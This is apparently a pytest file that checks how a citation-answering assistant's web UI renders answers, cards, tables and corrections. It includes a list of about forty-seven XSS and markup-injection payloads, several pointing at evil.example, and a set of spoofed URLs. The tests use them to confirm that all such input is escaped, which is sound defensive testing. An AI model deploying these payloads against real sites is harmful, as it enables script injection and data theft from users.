"""What the page shows: linked marks, cards, tables, corrections; and that nothing written by others acts."""

import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from fake_assistant import FakeAssistant, passages

from assistant.answer import Answer, Citation, Note
from assistant.drift import Drift, Standing
from assistant.notebook.answers import kept, shown
from assistant.notebook.conversations import Conversation
from assistant.notebook.turns import Scope, TurnState
from ingest.types import Language
from ui.cards import Card, card, card_html, cut, whereabouts
from ui.escape import escaped, safe_link
from ui.history import head_html, history_html
from ui.session import Session
from ui.view import Turn, answer_html, failure_html, onward_html, question_html, sources_html, turn_html

ELEMENTS = {
    "div", "p", "br", "h3", "h4", "ul", "ol", "li", "strong", "table", "thead", "tbody", "tr", "th",
    "td", "a", "span", "section", "article", "header", "footer", "blockquote", "mark", "details", "summary", "sup",
    "button", "pre", "h2",
}  # fmt: skip
ATTRIBUTES = {"class", "id", "lang", "href", "title", "role", "scope", "target", "rel", "start", "type", "value", "hidden", "download"}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/a.png">',
    "<svg onload=alert(1)><animate onbegin=alert(1)>",
    "<svg><use href='https://evil.example/x.svg#a'/></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data='data:text/html,<script>1</script>'></object>",
    "<embed src=https://evil.example/>",
    "<form action=https://evil.example><input name=q></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<base href=https://evil.example/>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='https://evil.example' onclick=alert(1)>x</a>",
    "<div style='background:url(https://evil.example/x.png)'>x</div>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<img srcset='https://evil.example/x 1x'>",
    "![x](https://evil.example/x.png)",
    "![x][1]\n\n[1]: https://evil.example/x.png",
    "[x](javascript:alert(1))",
    "[click](https://evil.example)",
    "[1]: https://evil.example 'x'",
    "<https://evil.example>",
    "https://evil.example/?q=secret",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "</p></div></section><script>alert(1)</script>",
    "--><!--<script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "${alert(1)} {{constructor.constructor('alert(1)')()}}",
    "```html\n<script>alert(1)</script>\n```",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u202e<tpircs>\u202c",
    "<script\x00>alert(1)</script\x00>",
    "\n\n<script>alert(1)</script>\n\n# heading\n\n",
    "| a | <script>x</script> |\n|---|---|\n| <img src=x onerror=1> | ![y](//evil.example) |",
    "韧性<script>警告(1)</script>城市",
    "$$\\href{javascript:alert(1)}{x}$$",
]  # fmt: skip


class Seen(HTMLParser):
    """All elements and attributes of a piece of HTML, and whether they close in order."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag != "br":
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open and self.open.pop() == tag, f"</{tag}> closes nothing"

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment came out: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration came out: {decl}")

    unknown_decl = handle_pi = handle_decl


def citation(**fields: object) -> Citation:
    base = Citation(1, "en1", "doc-en", "guide", "Guide", "1 Bridges", "section 1", 3, "en", "quote", 0, 5, "paper", "prose")
    return replace(base, **fields)


def shown_in(place: str, payload: str) -> str:
    """The page's HTML with the payload at this place."""
    plain = Answer("q", "q", "en", "Words [1].", False, (citation(),))
    note = Note("E1", 1, payload, (payload, "https://example.org/a"), (1,))
    answers = {
        "model output": replace(plain, text=payload + " [1]"),
        "table cell": replace(plain, text=f"| a |\n|---|\n| {payload} |\n"),
        "correction": replace(plain, notes=(note,)),
        "nearest": replace(plain, citations=(), abstained=True, nearest=(citation(work=payload, section=payload),)),
        "hover": replace(plain, citations=(citation(quote=payload),)),
    }
    if place in answers:
        return answer_html(answers[place], 1)
    if place == "question":
        return question_html(Turn(payload), 1, "en") + sources_html(turn(citation(), question=payload), 1)
    if place == "failure":
        return failure_html(payload, 1)
    if place == "part":
        return turn_html(Turn("q", part=payload + " [1]", known=(citation(quote=payload),), state=TurnState.ASKED), 1, "en")
    if place == "tools":
        turned = replace(turn(citation(work=payload, section=payload)), id="t1", verdict="wrong", note=payload, notice=payload)
        return turn_html(replace(turned, answer=replace(plain, text=payload), failure=payload), 1, "zh")
    if place == "onward":
        return onward_html((payload, "2017?"), "zh")
    if place == "conversation":
        session = Session(payload, payload, 0.0, (Turn(payload),), link=payload)
        return history_html([Conversation(payload, payload, 0.0, 0.0, 1)], "", "", "en") + head_html(session, "en")
    if place == "drift":
        moved = replace(passages()["en1"], section=payload)
        cited = citation(work=payload)
        return card_html(Card(cited, "", "", "q", "", "", standing=Standing(Drift.MOVED, moved)), 1, "en")
    fields: dict[str, object] = {
        "work title": {"work": payload},
        "heading": {"section": payload},
        "address": {"urls": (payload,)},
        "passage": {"quote": payload},
    }[place]  # type: ignore[assignment]
    return sources_html(turn(citation(**fields), body=payload if place == "passage" else "text"), 1)  # type: ignore[arg-type]


def turn(cited: Citation, question: str = "q", body: str = "text") -> Turn:
    made = Card(cited, body, body, cited.quote, body, body, twin=body, twin_language="zh")
    return Turn(question, Answer(question, question, "en", "x [1]", False, (cited,)), (made,))


PLACES = (
    "model output", "table cell", "correction", "nearest", "hover", "question", "failure", "work title", "heading", "address", "passage",
    "part", "tools", "conversation", "drift", "onward",
)  # fmt: skip


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_written_by_others_acts(place: str, payload: str) -> None:
    """T34: each payload at each place, as it is and in three disguises."""
    for written in (payload, payload.swapcase(), f"> - 韧性 {payload}", "\u200b".join(payload)):
        assert_inert(place, shown_in(place, written))


def assert_inert(place: str, markup: str) -> None:
    """Only our own elements and attributes, and no address but one that is given as an address."""
    seen = Seen(markup)
    assert "\n" not in markup and "\r" not in markup, "a line end would let a Markdown screen read on in its own way"
    assert seen.open == []
    for tag, attributes in seen.elements:
        assert tag in ELEMENTS, f"<{tag}>"
        assert set(attributes) <= ATTRIBUTES, f"<{tag} {attributes}>"
        href = attributes.get("href")
        if href is not None and not re.fullmatch(r"#(source|answer)-\d+(-\d+)?", href):
            if place == "conversation" and re.match(r"/(export/|\?shared=)", href):
                continue
            assert place in ("address", "correction"), f"{href} came from {place}"
            assert href.lower() in ("https://example.org/a", "https://evil.example/?q=secret")
            assert "noopener" in (attributes["rel"] or "")


def test_the_places_and_payloads_are_many() -> None:
    assert 4 * len(PAYLOADS) >= 150 and len(PLACES) >= 7
    assert len(set(PAYLOADS)) == len(PAYLOADS)


@pytest.mark.parametrize("payload", ["<script>alert(1)</script>", "韧性<b>城市</b>", "a \"b\" & 'c'"])
def test_text_is_shown_as_it_is(payload: str) -> None:
    import html

    assert html.unescape(escaped(payload)) == payload
    assert payload in html.unescape(question_html(Turn(payload), 1, "zh"))


@pytest.mark.parametrize(
    ("url", "safe"),
    [
        ("https://example.org/a?b=c#d", True),
        ("http://resilientcities2015.iclei.org", True),
        ("https://example.org:8443/x", True),
        ("http://[::1]/x", True),
        ("HTTPS://EXAMPLE.ORG", True),
        ("javascript:alert(1)", False),
        ("data:text/html,x", False),
        ("//evil.example/x", False),
        ("https://user:secret@example.org", False),
        ("https://example.org@evil.example", False),
        ("https://example.org/<script>", False),
        ("https://exam ple.org", False),
        ("https://еxample.org", False),  # a Cyrillic letter
        ("https://example.org\\@evil.example", False),
        ("https:///x", False),
        ("https://example.org:99999/", False),
        ("ftp://example.org", False),
        ("", False),
        ("https://exa\u202emple.org", False),
    ],
)
def test_only_plain_addresses_are_linked(url: str, safe: bool) -> None:
    assert (safe_link(url) is not None) == safe


def cards(assistant: FakeAssistant, answer: Answer) -> tuple[Card, ...]:
    """The cards of an answer that was just made."""
    return tuple(card(citation, excerpt) for citation, excerpt in zip(shown(answer), kept(answer, assistant).excerpts, strict=True))


@pytest.mark.parametrize("question", ["How is a flood measured?", "洪水之后如何衡量？", "Is 恢复时间 measured after a flood?"])
def test_each_mark_leads_to_its_card(question: str) -> None:
    assistant = FakeAssistant()
    answer = assistant.ask(question)
    made = Turn(question, answer, cards(assistant, answer))
    targets = re.findall(r'class="mark" href="#([\w-]+)"', answer_html(answer, 3))
    assert set(targets) == {f"source-3-{cited.number}" for cited in answer.citations}
    panel = sources_html(made, 3)
    for target in targets:
        assert panel.count(f'id="{target}"') == 1
    for cited in answer.citations:
        assert f"<mark>{escaped(cited.quote)}</mark>" in panel


def test_a_mark_without_a_source_is_text() -> None:
    markup = answer_html(Answer("q", "q", "en", "A [1] and [7].", False, (citation(),)), 1)
    assert markup.count('class="mark"') == 1
    assert "[7]" in markup


@pytest.mark.parametrize(
    ("question", "label", "other"),
    [("flood?", "The same passage in Chinese", "zh-CN"), ("洪水？", "同一段落的英文版本", "en")],
)
def test_card_speaks_the_answers_language(question: str, label: str, other: str) -> None:
    assistant = FakeAssistant()
    answer = assistant.ask(question)
    markup = card_html(cards(assistant, answer)[0], 1, answer.language)
    assert f"<summary>{label}</summary>" in markup and f'<p lang="{other}">' in markup
    assert passages()["zh1" if answer.language == "en" else "en1"].text in markup
    words = ("the paper", "p. 3", "English") if answer.language == "en" else ("论文原文", "第 3 页", "中文")
    assert all(word in markup for word in words)


@pytest.mark.parametrize("question", ["Which cases are of 2017?", "2017年有哪些案例？", "2017 哪些 cases?"])
def test_tables_come_as_tables(question: str) -> None:
    answer = FakeAssistant().ask(question)
    seen = Seen(answer_html(answer, 1))
    tags = [tag for tag, _ in seen.elements]
    assert (tags.count("th"), tags.count("td")) == (3, 3)
    row = sources_html(Turn(question, answer, cards(FakeAssistant(), answer)), 1)
    assert row.count('class="gap"') >= 2, "the cells of a quoted row stay apart"


def test_short_rows_are_filled_and_long_ones_cut() -> None:
    markup = answer_html(Answer("q", "q", "en", "| a | b |\n|:--|--:|\n| 1 |\n| 1 | 2 | 3 |\n", False), 1)
    assert re.findall(r"<tr>(.*?)</tr>", markup)[1:] == ["<td>1</td><td></td>", "<td>1</td><td>2</td>"]


def test_lists_and_strong_words() -> None:
    markup = answer_html(Answer("q", "q", "en", "Five:\n- **one** [1]\n- two\n\n2. second\n3. third", False, (citation(),)), 1)
    assert "<ul><li><strong>one</strong>" in markup and '<ol start="2"><li>second</li><li>third</li></ol>' in markup


@pytest.mark.parametrize(("question", "heading"), [("cats?", "Nearest in the sources"), ("猫？", "最接近的内容")])
def test_declining_names_what_is_nearest(question: str, heading: str) -> None:
    assistant = FakeAssistant()
    answer = assistant.ask(question)
    assert answer.abstained
    assert heading in answer_html(answer, 2) and 'href="#source-2-1"' in answer_html(answer, 2)
    assert 'id="source-2-1"' in sources_html(Turn(question, answer, cards(assistant, answer)), 2)


def test_corrections_come_when_the_answer_is_whole() -> None:
    answer = FakeAssistant().ask("flood?")
    assert 'class="notes"' in answer_html(answer, 1) and 'href="https://example.org/errata"' in answer_html(answer, 1)
    growing = turn_html(Turn("flood?", part=answer.text[:20], state=TurnState.ASKED), 1, "en")
    assert 'class="notes"' not in growing and "growing" in growing


@pytest.mark.parametrize(
    ("state", "language", "words"),
    [
        (TurnState.STOPPED, "en", "Stopped"),
        (TurnState.INTERRUPTED, "zh", "回答在完成前中断"),
        (TurnState.INTERRUPTED, "en", "Interrupted before the answer was whole"),
        (TurnState.FAILED, "zh", "此问题未得到回答"),
        (TurnState.ASKED, "en", "Reading the sources"),
    ],
)
def test_a_turn_without_a_whole_answer_says_why_beside_its_part(state: TurnState, language: Language, words: str) -> None:
    bare = turn_html(Turn("洪水 flood?", state=state), 1, language)
    assert words in bare and bare.count('id="answer-1"') == 1
    parted = turn_html(Turn("q", state=state, part="The first words.[1]", known=(citation(),)), 1, language)
    assert "The first words." in parted and 'href="#source-1-1"' in parted and parted.count('id="answer-1"') == 1
    assert ("again 1" in bare) == (state is not TurnState.ASKED)


def test_tools_are_for_whoever_owns_the_conversation() -> None:
    answered = replace(turn(citation()), id="t1", verdict="wrong", scope=Scope(("guide",)), versions=2)
    own, read = turn_html(answered, 1, "en"), turn_html(answered, 1, "en", own=False)
    for value in ("copy 1", "again 1", "edit 1", "verdict 1 wrong source", "note 1"):
        assert f'value="{value}"' in own and f'value="{value}"' not in read
    assert 'class="act chosen" value="verdict 1 wrong"' in own and "2 before, kept" in own and "chosen sources only" in read
    unkept = turn_html(replace(answered, id=""), 1, "en")
    assert "verdict" not in unkept and "copy 1" in unkept, "what is not kept cannot be judged"


@pytest.mark.parametrize(
    ("drift", "words"), [(Drift.SAME, "与引用时一致"), (Drift.MOVED, "现位于：2 屋顶 · 第 9 页"), (Drift.GONE, "已不在文献库中")]
)
def test_a_card_says_what_became_of_its_citation(drift: Drift, words: str) -> None:
    now = replace(passages()["zh1"], section="2 屋顶", page=9) if drift is not Drift.GONE else None
    assert words in card_html(Card(citation(), "", "", "q", "", "", standing=Standing(drift, now)), 1, "zh")


@pytest.mark.parametrize(
    ("passage", "quote", "offset", "parts"),
    [
        ("a b a", "a", 4, ("a b ", "a", "")),
        ("a b a", "a", 0, ("", "a", " b a")),
        ("a b a", "b", 99, ("a ", "b", " a")),
        ("韧性城市", "城市", 2, ("韧性", "城市", "")),
        ("a b", "c", 0, None),
        ("a b", "", 0, None),
        ("a b", "b", -3, ("a ", "b", "")),
    ],
)
def test_a_quote_is_found_in_its_passage_or_not_shown(passage: str, quote: str, offset: int, parts: tuple[str, str, str] | None) -> None:
    assert cut(passage, quote, offset) == parts


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("time.^{[5][9]} More", "time.<sup>[5][9]</sup> More"),
        ("时间^[12]；另见^{[12]~[14]}。", "时间<sup>[12]</sup>；另见<sup>[12]~[14]</sup>。"),
        ("x^2 and ^[a] and ^{<b>}", "x^2 and ^[a] and ^{&lt;b&gt;}"),
    ],
)
def test_reference_marks_of_a_source_are_raised(text: str, shown: str) -> None:
    assert shown in sources_html(turn(citation(quote="q"), body=text), 1)


@pytest.mark.parametrize(
    ("place", "language", "label"),
    [
        ("table 2 row 11", "en", "Table 2, row 11"),
        ("table 2 row 11", "zh", "表2第11行"),
        ("reference 12", "zh", "参考文献12"),
        ("section 3.1", "en", "1 Bridges"),
    ],
)
def test_labels_say_the_row_or_reference(place: str, language: Language, label: str) -> None:
    assert whereabouts(citation(place=place), language)[0] == label


@pytest.mark.parametrize(("question", "heads"), [("2017?", "With the heads of its columns: "), ("2017年？", "连同表头：")])
def test_a_row_is_read_with_its_column_heads_and_stands_between_its_neighbours(question: str, heads: str) -> None:
    assistant = FakeAssistant()
    answer = assistant.ask(question)
    first = cards(assistant, answer)[0]
    assert first.before.count("\t") == 2 and first.after.count("\t") == 2 and "\n" not in first.before + first.after
    assert heads in card_html(first, 1, answer.language)


def test_a_lost_passage_says_so() -> None:
    cited = citation(passage="gone", quote="words that are no more")
    answer = Answer("q", "q", "en", "x [1]", False, (cited,))
    markup = sources_html(Turn("q", answer, cards(FakeAssistant(), answer)), 1)
    assert "no longer in the library" in markup and "words that are no more" not in markup
